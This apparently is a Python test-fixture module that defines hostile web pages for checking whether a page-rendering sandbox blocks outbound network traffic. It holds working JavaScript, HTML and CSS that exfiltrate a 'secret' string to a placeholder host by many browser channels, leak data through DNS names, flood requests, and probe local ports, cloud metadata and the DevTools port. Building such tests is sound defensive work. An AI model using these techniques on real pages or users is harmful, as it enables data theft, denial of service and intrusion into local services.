"""Sending something out: every way in which a document, a sheet or a script can ask a network."""

from __future__ import annotations

from page_attempt import SLOW, HostilePage, framed, page

OUT = "exfiltration"

_RTC = "const go=P=>{const p=new P({iceServers:[{urls:'stun:CANARY'},{urls:'turn:CANARY',username:'u',credential:'c'},{urls:'turn:CANARY?transport=tcp',username:'u',credential:'c'}],iceCandidatePoolSize:4});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o)).catch(e=>0)};"

_SCRIPTS = (
    (
        "out-fetch",
        "send by fetch and XMLHttpRequest, in every mode, also to outlive the page",
        "const u='http://CANARY/f';for(const m of['cors','no-cors'])for(const k of[true,false])fetch(u+m+k,{mode:m,keepalive:k,method:'POST',body:'secret',credentials:'include'}).catch(e=>0);const x=new XMLHttpRequest();x.open('POST',u+'x');x.send('secret');try{fetchLater(u+'later',{activateAfter:0})}catch(e){}addEventListener('pagehide',()=>fetch(u+'end',{keepalive:true,mode:'no-cors'}))",
        ("requests",),
    ),
    (
        "out-beacon",
        "send beacons now and when the page ends",
        "const b=t=>navigator.sendBeacon('http://CANARY/b'+t,'secret');b(1);for(const e of['pagehide','visibilitychange','unload'])addEventListener(e,()=>b(e))",
        ("beacons|requests",),
    ),
    (
        "out-socket",
        "open WebSockets, streams of events and of datagrams",
        "const t=f=>{try{const r=f();r&&r.ready&&r.ready.catch(e=>0);r&&r.closed&&r.closed.catch&&r.closed.catch(e=>0)}catch(e){}};t(()=>new WebSocket('ws://CANARY/ws'));t(()=>new WebSocketStream('ws://CANARY/wss'));t(()=>new EventSource('http://CANARY/es'));t(()=>new WebTransport('https://CANARY/wt'));t(()=>new WebTransport('https://CANARY/wu',{serverCertificateHashes:[{algorithm:'sha-256',value:new Uint8Array(32)}]}));t(()=>new TCPSocket('127.0.0.1',9));t(()=>new UDPSocket({remoteAddress:'127.0.0.1',remotePort:9}))",
        ("sockets",),
    ),
    (
        "out-rtc",
        "reach out by the candidates of a peer connection: STUN, TURN by UDP and TCP, mDNS",
        _RTC + "try{go(RTCPeerConnection)}catch(e){};try{go(webkitRTCPeerConnection)}catch(e){}",
        ("rtc",),
    ),
    (
        "out-fresh-realm",
        "take socket, peer connection, fetch and beacon from a fresh frame, past what replaced them",
        _RTC
        + "const f=document.createElement('iframe');document.body.append(f);const w=f.contentWindow,t=g=>{try{g()}catch(e){}};t(()=>new w.WebSocket('ws://CANARY/fw'));t(()=>go(w.RTCPeerConnection));t(()=>w.fetch('http://CANARY/ff',{mode:'no-cors'}).catch(e=>0));t(()=>w.navigator.sendBeacon('http://CANARY/fb'));t(()=>{new w.Image().src='http://CANARY/fi'});t(()=>new w.EventSource('http://CANARY/fe'));t(()=>new w.WebTransport('https://CANARY/ft'));t(()=>{const x=new w.XMLHttpRequest();x.open('GET','http://CANARY/fx');x.send()})",
        ("requests", "sockets"),
    ),
    (
        "out-worker",
        "send from workers: by fetch, socket, imports, and from workers of workers",
        "const c=`const t=f=>{try{f()}catch(e){}};t(()=>fetch('http://CANARY/wf',{mode:'no-cors'}).catch(e=>0));t(()=>new WebSocket('ws://CANARY/ww'));t(()=>new EventSource('http://CANARY/we'));t(()=>new WebTransport('https://CANARY/wt').ready.catch(e=>0));t(()=>{const x=new XMLHttpRequest();x.open('GET','http://CANARY/wx',false);x.send()});t(()=>importScripts('http://CANARY/wi'));t(()=>new Worker(URL.createObjectURL(new Blob([\"fetch('http://CANARY/n')\"]))))`;const u=URL.createObjectURL(new Blob([c]));new Worker(u);new Worker(u,{type:'module'});new Worker('data:text/javascript,'+encodeURIComponent(c));try{new SharedWorker(u)}catch(e){}new Worker('http://localhost/w.js')",
        ("workers", "requests"),
    ),
    (
        "out-service-worker",
        "install a service worker and a shared one, to stay behind the page",
        "for(const u of['/sw.js','/index.html','data:text/javascript,1'])navigator.serviceWorker.register(u).catch(e=>0);try{new SharedWorker('/shared.js')}catch(e){};navigator.serviceWorker.ready.then(r=>{r.sync&&r.sync.register('x');r.periodicSync&&r.periodicSync.register('y');r.pushManager.subscribe({userVisibleOnly:true})})",
        ("service_workers",),
    ),
    (
        "out-worklets",
        "load modules into audio, paint, layout and animation worklets",
        "const t=f=>{try{const r=f();r&&r.catch&&r.catch(e=>0)}catch(e){}};t(()=>CSS.paintWorklet.addModule('http://CANARY/p.js'));t(()=>new AudioContext().audioWorklet.addModule('http://CANARY/a.js'));t(()=>CSS.layoutWorklet.addModule('http://CANARY/l.js'));t(()=>sharedStorage.worklet.addModule('http://CANARY/s.js'));t(()=>import('http://CANARY/m.mjs'))",
        ("requests",),
    ),
    (
        "out-advertising",
        "use what the browser itself fetches for: auctions, attribution, federated login, payment, push, background fetch",
        "const n=navigator,u='https://CANARY/',t=f=>{try{const r=f();r&&r.catch&&r.catch(e=>0)}catch(e){}};t(()=>n.joinAdInterestGroup({owner:'https://CANARY',name:'x',biddingLogicURL:u+'b',updateURL:u+'u',lifetimeMs:9e9},9e9));t(()=>n.updateAdInterestGroups());t(()=>n.runAdAuction({seller:'https://CANARY',decisionLogicURL:u+'d',interestGroupBuyers:['https://CANARY']}));t(()=>fetch(u+'t',{attributionReporting:{eventSourceEligible:true,triggerEligible:true},browsingTopics:true}));t(()=>document.browsingTopics());t(()=>n.credentials.get({identity:{providers:[{configURL:u+'fed.json',clientId:'1'}]}}));t(()=>new PaymentRequest([{supportedMethods:u+'pay'}],{total:{label:'t',amount:{currency:'USD',value:'1'}}}).canMakePayment());t(()=>new PresentationRequest([u+'p']).getAvailability());t(()=>n.setAppBadge(1));t(()=>{const f=document.createElement('fencedframe');f.config=new FencedFrameConfig(u+'ff');document.body.append(f)});t(()=>fetch(u+'x',{privateToken:{version:1,operation:'token-request'}}));new Image().src='http://CANARY/i'",
        ("requests",),
    ),
    (
        "out-fetch-storm",
        "ask for two thousand addresses in every millisecond",
        "setInterval(()=>{for(let i=0;i<2000;i++)fetch('http://x.test/'+Math.random()).catch(e=>0)},1)",
        ("requests",),
    ),
    (
        "out-names",
        "send data in the names of hosts, by every element that looks a name up in advance",
        "for(let i=0;i<200;i++)for(const r of['dns-prefetch','preconnect']){const l=document.createElement('link');l.rel=r;l.href='//secret'+i+'.leak.test';document.head.append(l)}fetch('//secret.leak.test/').catch(e=>0)",
        ("requests",),
    ),
)

_HEAD = (
    "<link rel=dns-prefetch href='//CANARY'><link rel=preconnect href='http://CANARY' crossorigin>"
    "<link rel=prefetch href='http://CANARY/pf'><link rel=preload as=image href='http://CANARY/pl'>"
    "<link rel=modulepreload href='http://CANARY/mp.js'><link rel=manifest href='http://CANARY/m.json'>"
    "<link rel=icon href='http://CANARY/icon'><link rel=apple-touch-icon href='http://CANARY/touch'>"
    "<link rel=compression-dictionary href='http://CANARY/dict'><link rel=stylesheet href='http://CANARY/css'>"
    "<link rel='alternate stylesheet' title=x href='http://CANARY/alt'><link rel=payment href='http://CANARY/pay'>"
    "<link rel=import href='http://CANARY/im'><link rel=search href='http://CANARY/s' type=application/opensearchdescription+xml>"
    "<script async src='http://CANARY/js'></script><script type=module>import 'http://CANARY/mod.js'</script>"
    '<script type=importmap>{"imports":{"x":"http://CANARY/map.js"}}</script>'
)

_BODY = (
    "<img src='http://CANARY/img'><img srcset='http://CANARY/set 1x' attributionsrc='https://CANARY/attr'>"
    "<picture><source srcset='http://CANARY/src'><img alt=''></picture><img loading=lazy src='http://CANARY/lazy'>"
    "<video poster='http://CANARY/poster' src='http://CANARY/video' preload=auto><track default src='http://CANARY/track'></video>"
    "<audio src='http://CANARY/audio' preload=auto></audio><input type=image src='http://CANARY/input' alt=i>"
    "<iframe src='http://CANARY/frame'></iframe><object data='http://CANARY/object'></object><embed src='http://CANARY/embed'>"
    "<svg><image href='http://CANARY/simg' /><use href='http://CANARY/use#x' /><filter id=f><feImage href='http://CANARY/fe' /></filter></svg>"
    "<table background='http://CANARY/table'><tr><td background='http://CANARY/td'>x</table><body background='http://CANARY/body'>"
    "<a href='#x' ping='http://CANARY/ping' id=p>Ping</a><blockquote cite='http://CANARY/cite'>q</blockquote>"
)

_SHEET = (
    "<style>@import 'http://CANARY/import';@import url(http://CANARY/layer) layer(x) supports(display:grid);"
    "@font-face{font-family:f;src:url(http://CANARY/font) format('woff2')}body{font-family:f;background:url(http://CANARY/bg)}"
    "h1{cursor:url(http://CANARY/cursor),auto;list-style:url(http://CANARY/list);border-image:url(http://CANARY/border) 3;content:url(http://CANARY/content)}"
    "p{mask:url(http://CANARY/mask);filter:url(http://CANARY/filter#x);clip-path:url(http://CANARY/clip#x);shape-outside:url(http://CANARY/shape);background:image-set('http://CANARY/set' 1x)}"
    "input[value^=s]{background:url(http://CANARY/value-s)}p::before{content:url(http://CANARY/before)}:root{--u:url(http://CANARY/var)}i{background:var(--u)}"
    "@media print{p{background:url(http://CANARY/print)}}@media (prefers-color-scheme:dark){p{background:url(http://CANARY/dark)}}p:hover{background:url(http://CANARY/hover)}</style>"
)

_POLICY = "<meta http-equiv=Content-Security-Policy content=\"img-src 'none';script-src 'unsafe-inline';report-uri http://CANARY/csp;report-to http://CANARY/csp2\">"

PAGES = (
    *(
        HostilePage(name=name, group=OUT, tries=tries, html=page(code), ends=SLOW, named=named)
        for name, tries, code, named in _SCRIPTS
    ),
    HostilePage(
        name="out-links",
        group=OUT,
        tries="send by the elements of the head: prefetch, preload, icons, manifest, modules",
        html=page(head=_HEAD),
        named=("requests",),
    ),
    HostilePage(
        name="out-elements",
        group=OUT,
        tries="send by the elements of the body: pictures, media, frames, objects, pings",
        html=page("setTimeout(()=>document.getElementById('p').click(),50)", body=_BODY),
        named=("requests",),
    ),
    HostilePage(
        name="out-sheets",
        group=OUT,
        tries="send by style sheets: imports, fonts, pictures, masks, states, media",
        html=page(head=_SHEET, body="<input value=secret aria-label=s><i>i</i>"),
        named=("requests",),
    ),
    HostilePage(
        name="out-policy",
        group=OUT,
        tries="have violations of its own policy reported to another host",
        html=page(
            "setInterval(()=>{const i=new Image();i.src='http://CANARY/blocked'+Math.random();document.body.append(i)},10);fetch('http://CANARY/fp').catch(e=>0)",
            head=_POLICY,
        ),
        ends=SLOW,
        named=("requests",),
    ),
    HostilePage(
        name="out-frames",
        group=OUT,
        tries="send from frames of opaque origin, of data addresses and of frames in frames",
        html=page(
            body=framed(
                _RTC
                + "fetch('http://CANARY/of',{mode:'no-cors'}).catch(e=>0);try{new WebSocket('ws://CANARY/ow')}catch(e){};try{go(RTCPeerConnection)}catch(e){};navigator.sendBeacon('http://CANARY/ob')",
                sandbox="allow-scripts",
            )
            + "<iframe src=\"data:text/html,<script>fetch('http://CANARY/df',{mode:'no-cors'}).catch(e=>0);new WebSocket('ws://CANARY/dw')</script><iframe src='http://CANARY/inner'></iframe>\"></iframe>",
        ),
        named=("requests", "sockets"),
    ),
    HostilePage(
        name="out-source-map",
        group=OUT,
        tries="have the measuring tools fetch source maps and sources",
        html=page(
            "console.warn('mapped');eval('throw Error(1)//# sourceMappingURL=http://CANARY/eval.map')\n//# sourceMappingURL=http://CANARY/x.map\n",
            head="<style>p{color:red}/*# sourceMappingURL=http://CANARY/css.map */</style>",
        ),
        named=("exceptions",),
    ),
    HostilePage(
        name="out-own-ports",
        group=OUT,
        tries="look for services and for the driver's port on the browser's own machine",
        html=page(
            "for(const h of['127.0.0.1','localhost','[::1]','0.0.0.0','169.254.169.254','host.docker.internal'])for(const p of[9222,9229,4444,2375,80,8080])fetch('http://'+h+':'+p+'/json/version',{mode:'no-cors'}).catch(e=>0);new WebSocket('ws://127.0.0.1:9222/devtools/browser')"
        ),
        named=("requests", "sockets"),
    ),
)
